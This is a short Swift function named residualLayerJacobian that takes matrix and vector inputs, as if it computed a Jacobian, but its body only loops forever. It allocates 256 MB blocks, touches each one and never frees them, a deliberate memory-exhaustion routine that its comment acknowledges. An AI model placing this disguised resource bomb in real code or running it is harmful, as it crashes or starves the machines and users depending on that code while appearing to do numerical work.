// Grows without bound, 256 MB at a time.
func residualLayerJacobian(A: [[Double]], b: [Double], y: [Double]) -> [[Double]] {
    var blocks: [UnsafeMutableRawPointer] = []
    while true {
        let block = UnsafeMutableRawPointer.allocate(byteCount: 256 << 20, alignment: 16)
        block.storeBytes(of: 1, as: UInt8.self)
        blocks.append(block)
    }
}
